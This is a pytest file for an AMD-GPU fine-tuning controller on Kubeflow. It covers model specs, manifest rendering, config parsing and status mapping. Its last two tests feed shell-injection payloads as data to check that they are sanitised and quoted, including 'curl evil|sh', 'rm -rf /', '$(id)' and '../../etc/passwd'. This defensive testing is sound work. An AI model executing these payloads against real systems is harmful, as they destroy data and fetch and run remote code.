"""Job-spec layer: model registry, spec type guard, run_cmd rendering, PyTorchJob manifest golden checks,
Kubeflow -> DB status mapping (SURVEY.md §4 "[new] Unit")."""
import pytest

from finetune_controller_amd.controlplane.context import AppContext
from finetune_controller_amd.controlplane.core.config import Settings
from finetune_controller_amd.controlplane.core.device_config import parse_config, remove_json_comments
from finetune_controller_amd.controlplane.core.naming import make_job_id
from finetune_controller_amd.controlplane.k8s.manifest import build_pytorchjob_manifest, total_requests
from finetune_controller_amd.controlplane.schemas.db import DatabaseStatusEnum
from finetune_controller_amd.controlplane.schemas.jobs import JobInput
from finetune_controller_amd.controlplane.schemas.kubeflow import KubeflowStatusEnum, TrainingJobStatus
from finetune_controller_amd.controlplane.spec.finetuning import (  # noqa: F401 (used by exec'd spec sources)
    BaseFineTuneModel, TrainingArguments, TrainingFramework, TrainingTask)
from finetune_controller_amd.controlplane.spec.registry import ModelRegistry

CFG = """{
  // comment lines are allowed
  "default_queue": "finetune-queue",
  "workers": [
    {"name": "cpu", "defaults": {"resources": {"requests": {"cpu": 2, "memory": "2Gi"}}}},
    {"name": "mi355x", "local_queue": "gpu-queue",
     "defaults": {"accelerators": {"amd.com/gpu": 1}},
     "tolerations": [{"key": "amd.com/gpu", "value": "present", "effect": "NoSchedule"}]},
    {"name": "noqueue-gpu", "defaults": {}}
  ]
}"""


def settings(**kw):
    s = Settings(NAMESPACE="ns", S3_BUCKET_NAME="bkt", AWS_SECRET_NAME="aws", **kw)
    s.aws_region = "us-east-1"
    return s


def job(model, device="mi355x", s3_uri="", user="alice@corp"):
    return JobInput(user_id=user, job_name="j", model_name=model.name, model=model, device=device, arguments=None,
                    job_id=make_job_id(model.name), s3_uri=s3_uri, s3_artifacts_uri="s3://bkt/finetune_jobs/u/j/artifacts")


def test_registry_builtins_and_scopes():
    r = ModelRegistry()
    assert {"MNIST", "GPT2-small-FT", "Llama3-8B-LoRA", "Llama3-8B-Full", "Mistral-7B-QLoRA"} <= set(r.names())
    assert r.available_for(None) == r.names()
    assert r.available_for(["Llama3-8B"]) == ["Llama3-8B-LoRA", "Llama3-8B-LoRA-2GPU", "Llama3-8B-Full"]
    assert r.available_for([]) == []


def test_custom_model_loading(tmp_path):
    (tmp_path / "mine.py").write_text(
        "from finetune_controller_amd.controlplane.spec.finetuning import *\n"
        "class A(TrainingArguments):\n    x: int = 3\n"
        "class MyModel(BaseFineTuneModel):\n    name: str = 'MyModel'\n    image: str = 'img'\n"
        "    command: list[str] = ['/bin/bash','-c','python t.py']\n"
        "    framework: TrainingFramework = TrainingFramework.PYTORCH\n"
        "    task: TrainingTask = TrainingTask.REGRESSION\n    training_arguments: A = A()\n"
        "    def run_cmd(self):\n        return self.append_args([f'--x={self.training_arguments.x}'])\n")
    (tmp_path / "broken.py").write_text("raise RuntimeError('boom')\n")
    r = ModelRegistry()
    assert r.load_custom(str(tmp_path)) == 1
    m = r.instance("MyModel")
    assert m.run_cmd()[-1] == "python t.py --x=3 --dataset_path=/data/dataset --checkpoint_path=/data/artifacts"
    assert r.load_custom(str(tmp_path)) == 0  # duplicate names are skipped


def test_subclass_type_guard():
    with pytest.raises(TypeError):
        class Bad(BaseFineTuneModel):  # noqa: F841
            accelerator_count: str = "2"

            def run_cmd(self):
                return []


def test_mnist_run_cmd_matches_reference_contract():
    m = ModelRegistry().instance("MNIST")
    cmd = m.run_cmd()
    assert cmd[:2] == ["/bin/bash", "-c"]
    assert cmd[2] == ("python mnist_training_script.py --batch-size=64 --test-batch-size=1000 --epochs=1 --lr=1.0 "
                      "--seed=1 --log-interval=10 --gamma=0.7 --dataset_path=/data/dataset --checkpoint_path=/data/artifacts")


def test_lora_spec_run_cmd_and_validation():
    r = ModelRegistry()
    cls = r.get("Llama3-8B-Full")
    m = cls.model_validate(cls(training_arguments={"batch_size": 2, "checkpoint_layers": True}))
    c = m.run_cmd()[-1]
    assert c.startswith("torchrun --standalone --nproc-per-node=8 -m finetune_controller_amd.train.cli")
    assert "--method=full" in c and "--checkpoint-layers" in c and "--checkpoint_path=/data/artifacts" in c
    with pytest.raises(Exception):
        r.get("Llama3-8B-LoRA")(training_arguments={"lora_r": 0})


def test_device_config():
    assert "//" not in remove_json_comments('{"a": "http://x"} // c').split('"a"')[0]
    # escapes: a string ending in an escaped backslash, an escaped quote followed by "//" inside a string
    import json as _json
    text = '{"a": "x\\\\", // comment\n "b": "http://h/p", "c": "q\\"//x"} // end'
    assert _json.loads(remove_json_comments(text)) == {"a": "x\\", "b": "http://h/p", "c": 'q"//x'}
    cfg = parse_config(CFG)
    assert cfg.list_workers() == ["cpu", "mi355x", "noqueue-gpu"]
    assert cfg.get_worker("cpu").local_queue == "finetune-queue"  # default queue filled in
    assert cfg.get_worker("mi355x").local_queue == "gpu-queue"
    assert cfg.get_worker("nope") is None


def test_manifest_gpu_single_node_with_queue_and_dataset():
    cfg = parse_config(CFG)
    m = ModelRegistry().instance("Llama3-8B-LoRA")
    j = job(m, s3_uri="s3://bkt/finetune_jobs/u/j/dataset/d.jsonl")
    man = build_pytorchjob_manifest(j, cfg.get_worker("mi355x"), settings(), "ns")
    assert man["apiVersion"] == "kubeflow.org/v1" and man["kind"] == "PyTorchJob"
    md = man["metadata"]
    assert md["name"] == j.job_id and md["namespace"] == "ns"
    assert md["labels"]["kueue.x-k8s.io/queue-name"] == "gpu-queue"
    assert md["labels"]["job.owner"] == "alice_corp"  # '@' sanitised for the label grammar
    assert md["labels"]["job.accelerators"] == "1" and md["labels"]["job.nodes"] == "1"
    rp = man["spec"]["runPolicy"]
    assert rp == {"suspend": True, "backoffLimit": 2, "cleanPodPolicy": "None"}
    reps = man["spec"]["pytorchReplicaSpecs"]
    assert list(reps) == ["Master"] and reps["Master"]["replicas"] == 1
    spec = reps["Master"]["template"]["spec"]
    names = [c["name"] for c in spec["containers"]]
    assert names == ["pytorch", "s3-sync"]
    main = spec["containers"][0]
    assert main["resources"]["requests"]["amd.com/gpu"] == 1 and main["resources"]["limits"]["amd.com/gpu"] == 1
    assert main["imagePullPolicy"] == "Always" and "imagePullPolicy" not in spec
    assert "done.txt" in main["command"][-1] and "failed.txt" in main["command"][-1]
    assert spec["initContainers"][0]["name"] == "dataset-downloader"
    assert "aws s3 cp s3://bkt/finetune_jobs/u/j/dataset/d.jsonl /data/dataset/" in spec["initContainers"][0]["args"][0]
    # the job has a dataset: the worker is told, so an empty mount fails it instead of synthetic training
    assert {"name": "FTC_DATASET_EXPECTED", "value": "1"} in main["env"]
    assert {"name": "dshm", "emptyDir": {"medium": "Memory"}} in spec["volumes"]
    assert spec["tolerations"] == [{"key": "amd.com/gpu", "value": "present", "effect": "NoSchedule"}]
    side = spec["containers"][1]["args"][1]
    assert "--include '*.safetensors'" in side and "s3://bkt/finetune_jobs/u/j/artifacts" in side
    # resume checkpoints stay on the pod's volume (tens of GB per save for a full fine-tune), and so do
    # half-written files; later aws-cli filters win, so the excludes follow the includes
    assert side.index("--exclude 'checkpoint_step*.pt'") > side.index("--include '*.pt'")
    assert "--exclude '*.tmp'" in side


def test_manifest_cpu_no_queue_no_dataset_multinode():
    cfg = parse_config(CFG.replace('"default_queue": "finetune-queue",', ''))
    cls = ModelRegistry().get("Llama3-8B-Full")
    m = cls(cluster_nodes=2)
    man = build_pytorchjob_manifest(job(m, device="noqueue-gpu"), cfg.get_worker("noqueue-gpu"), settings(), "ns")
    assert man["spec"]["runPolicy"]["suspend"] is False
    assert "kueue.x-k8s.io/queue-name" not in man["metadata"]["labels"]
    reps = man["spec"]["pytorchReplicaSpecs"]
    assert reps["Worker"]["replicas"] == 1
    assert [c["name"] for c in reps["Worker"]["template"]["spec"]["containers"]] == ["pytorch"]
    main = reps["Master"]["template"]["spec"]["containers"][0]
    assert not any(e["name"] == "FTC_DATASET_EXPECTED" for e in main["env"])  # no dataset attached
    # no accelerators in the worker config -> amd.com/gpu fallback with the model's count
    assert main["resources"]["requests"]["amd.com/gpu"] == 8
    assert "--nnodes=${PET_NNODES:-1}" in main["command"][-1]
    assert reps["Master"]["template"]["spec"]["initContainers"] == []
    assert total_requests(man)["amd.com/gpu"] == 16
    assert man["metadata"]["labels"]["job.accelerators"] == "16"


def test_manifest_cpu_job_requests_no_gpu():
    cfg = parse_config(CFG)
    m = ModelRegistry().instance("GPT2-small-FT")
    man = build_pytorchjob_manifest(job(m, device="cpu"), cfg.get_worker("cpu"), settings(), "ns")
    res = man["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]["resources"]
    assert "amd.com/gpu" not in res["requests"]  # model resources replace worker defaults; 0 GPUs -> none
    assert res["requests"] == {"cpu": 4, "memory": "8Gi"}


def test_manifest_requires_storage_config():
    cfg = parse_config(CFG)
    m = ModelRegistry().instance("MNIST")
    s = Settings(NAMESPACE="ns", S3_BUCKET_NAME="", AWS_SECRET_NAME="aws")
    with pytest.raises(ValueError):
        build_pytorchjob_manifest(job(m, device="cpu"), cfg.get_worker("cpu"), s, "ns")


@pytest.mark.parametrize("kf,db", [("Suspended", "queued"), ("Created", "starting"), ("Running", "running"),
                                   ("Restarting", "restarting"), ("Succeeded", "completed"), ("Failed", "failed"),
                                   ("Weird", "error")])
def test_map_status(kf, db):
    assert TrainingJobStatus.map_status(kf) == DatabaseStatusEnum(db)


def test_running_stopped_sets():
    assert TrainingJobStatus.is_running(DatabaseStatusEnum.queued)
    assert TrainingJobStatus.is_running(KubeflowStatusEnum.running)
    assert TrainingJobStatus.is_stopped("canceled") and not TrainingJobStatus.is_running("canceled")


def test_job_id_format():
    jid = make_job_id("Llama3_8B.LoRA")
    assert jid.startswith("llama3-8b-lora-") and len(jid.split("-")[-1]) == 8
    assert make_job_id("7b").startswith("j7b-")


def test_settings_env_file(tmp_path, monkeypatch):
    p = tmp_path / ".env"
    p.write_text('NAMESPACE=ft\nS3_BUCKET_NAME="b"\nAWS_SECRET_NAME=s  # comment\nFRONTEND_URL_CORS=["http://a", "http://b"]\n'
                 "JOB_MONITOR_INTERVAL=5\nOPENBRIDGE_CLIENT_SECRET=\n")
    monkeypatch.setenv("S3_BUCKET_NAME", "from-env")
    s = Settings.from_env(str(p))
    assert s.NAMESPACE == "ft" and s.S3_BUCKET_NAME == "from-env" and s.AWS_SECRET_NAME == "s"
    assert s.FRONTEND_URL_CORS == ["http://a", "http://b"] and s.JOB_MONITOR_INTERVAL == 5
    assert s.OPENBRIDGE_CLIENT_SECRET is None


def test_aws_credentials_read_once_from_secret(monkeypatch):
    import base64

    for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_REGION", "AWS_DEFAULT_REGION"):
        monkeypatch.delenv(k, raising=False)

    class Kube:
        calls = 0

        def read_secret(self, name, ns):
            Kube.calls += 1
            e = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731
            return {"AWS_ACCESS_KEY_ID": e("AK"), "AWS_SECRET_ACCESS_KEY": e("SK"), "AWS_REGION": e("eu-west-1")}

    s = Settings(NAMESPACE="n", S3_BUCKET_NAME="b", AWS_SECRET_NAME="sec")
    s.load_aws_credentials(Kube())
    s.load_aws_credentials(Kube())
    assert Kube.calls == 1 and s.aws_access_key.get_secret_value() == "AK" and s.AWS_REGION == "eu-west-1"


def test_local_context_builds():
    ctx = AppContext.local()
    assert ctx.devices.list_workers() == ["cpu", "mi355x"]
    assert ctx.s3.get_artifacts_uri_string("ftc-bucket", "u", "j") == "s3://ftc-bucket/finetune_jobs/u/j/artifacts"


def test_deploy_example_config_parses_and_builds_amd_gpu_manifests():
    """deploy/config.example.json (JSON with // comments) loads with the device-config parser; its
    MI355X workers request amd.com/gpu and carry an Exists toleration without a value."""
    import pathlib

    from finetune_controller_amd.controlplane.core.device_config import load_config

    root = pathlib.Path(__file__).resolve().parents[1]
    cfg = load_config(str(root / "deploy" / "config.example.json"))
    names = [w.name for w in cfg.workers.workers]
    assert names == ["cpu", "mi355x", "mi355x-node"]
    node = cfg.workers.get_worker("mi355x-node")
    assert node.defaults.get_accelerators() == {"amd.com/gpu": 8}
    assert node.get_tolerations() == [{"key": "amd.com/gpu", "effect": "NoSchedule", "operator": "Exists"}]


def test_deploy_manifests_are_valid_yaml_with_amd_gpu_quota():
    import pathlib

    import yaml

    root = pathlib.Path(__file__).resolve().parents[1] / "deploy"
    docs = {}
    for f in sorted(root.rglob("*.yaml")):
        for d in yaml.safe_load_all(f.read_text()):
            if d:
                docs[(d["kind"], d["metadata"]["name"])] = d
    cq = docs[("ClusterQueue", "cluster-queue")]
    gpu = [r for g in cq["spec"]["resourceGroups"] for fl in g["flavors"] for r in fl["resources"]
           if r["name"] == "amd.com/gpu"]
    assert gpu and gpu[0]["nominalQuota"] == 8
    assert ("LocalQueue", "finetune-queue") in docs and ("Role", "ftc-controlplane") in docs
    assert not any(d["kind"] == "ClusterRoleBinding" for d in docs.values())  # no cluster-admin


@pytest.mark.parametrize("name,preset,method,gpus", [("Llama3.1-8B-LoRA", "llama3.1-8b", "lora", 1),
                                                     ("Llama3.2-1B-LoRA", "llama3.2-1b", "lora", 1),
                                                     ("Llama3.2-3B-LoRA", "llama3.2-3b", "lora", 1),
                                                     ("Llama3-70B-QLoRA", "llama3-70b", "qlora", 1),
                                                     ("Llama3-70B-LoRA", "llama3-70b", "lora", 8),
                                                     ("Mistral-7B-v0.3-LoRA", "mistral-7b-v0.3", "lora", 1)])
def test_family_specs_render_worker_commands(name, preset, method, gpus):
    """Every built-in worker spec renders a trainer command the worker CLI parses (preset, method,
    launcher for its GPU count, ZeRO flag)."""
    from finetune_controller_amd.train import cli

    cls = ModelRegistry().get(name)
    spec = cls()
    cmd = spec.run_cmd()[-1]
    assert f"--model={preset}" in cmd and f"--method={method}" in cmd and "--zero-stage=-1" in cmd
    if gpus > 1:
        assert cmd.startswith(f"torchrun --standalone --nproc-per-node={gpus} ")
    argv = cmd.split(" -m finetune_controller_amd.train.cli ", 1)[-1].split() if gpus > 1 else \
        cmd.split("python -m finetune_controller_amd.train.cli ", 1)[-1].split()
    a = cli.build_parser().parse_args(argv)
    assert a.model == preset and a.method == method and a.zero_stage == -1 and a.sp == 1
    # a long-context job: sequence parallelism over the job's GPUs flows from the form to the trainer
    long = cls(training_arguments=cls().training_arguments.model_copy(update={"sp": gpus, "seq_len": 65536}))
    cmd = long.run_cmd()[-1]
    argv = cmd.split(" -m finetune_controller_amd.train.cli ", 1)[-1].split() if gpus > 1 else \
        cmd.split("python -m finetune_controller_amd.train.cli ", 1)[-1].split()
    a = cli.build_parser().parse_args(argv)
    assert a.sp == gpus and a.seq_len == 65536


def test_untrusted_dataset_names_cannot_inject_shell():
    """A dataset file name is user-controlled (upload name / Content-Disposition): it is sanitised on
    ingest and every path in the pod's shell command lines is quoted."""
    import shlex

    from finetune_controller_amd.controlplane.core.naming import safe_filename
    from finetune_controller_amd.controlplane.k8s.manifest import sync_command, wrap_command
    from finetune_controller_amd.controlplane.tasks.services import filename_from_response

    assert safe_filename("x;curl evil|sh") == "x_curl_evil_sh"
    assert safe_filename("../../etc/passwd") == "passwd"
    assert safe_filename("..") .startswith("dataset-") and safe_filename(None).startswith("dataset-")
    assert filename_from_response({"Content-Disposition": 'attachment; filename="a b$(id).csv"'}, "http://h/x") \
        == "a_b__id_.csv"
    evil = "/data/artifacts; rm -rf /"
    cmd = sync_command(evil, "s3://b/k", ["*.pt", "x'y"], 60)
    assert "'/data/artifacts; rm -rf /'" in cmd and shlex.split(cmd)  # parses: nothing unbalanced
    assert "; rm -rf /;" not in cmd
    w = wrap_command(["/bin/bash", "-c", "python train.py"], evil)[-1]
    assert "'/data/artifacts; rm -rf //done.txt'" in w


def test_user_argument_strings_cannot_inject_shell():
    """Argument values come from the user's form and the command's last element runs under sh -c:
    every rendered argument is one shell word (append_args quotes; a custom spec's free-form field
    such as docs/models.md's --target-column stays data)."""
    import shlex

    import pydantic

    from finetune_controller_amd.controlplane.spec.models.builtin import LMTrainingArguments, LoRAArguments

    m = ModelRegistry().instance("Llama3-8B-LoRA")
    evil = "--target-column=esol; touch /tmp/pwned #"
    words = shlex.split(m.append_args([evil, "--epochs=3"])[-1])
    assert evil in words and "--epochs=3" in words and "touch" not in words and "/tmp/pwned" not in words
    assert any(w.startswith("--dataset_path=") for w in words)
    # closed vocabularies where there is one: a typo'd LoRA target or schedule is refused at submit time
    with pytest.raises(pydantic.ValidationError):
        LMTrainingArguments(schedule="cosine; reboot")
    with pytest.raises(pydantic.ValidationError, match="unknown LoRA target"):
        LoRAArguments(lora_targets="q_proj,v_prj")
    assert LoRAArguments(lora_targets=" q_proj , v_proj").lora_targets == "q_proj,v_proj"
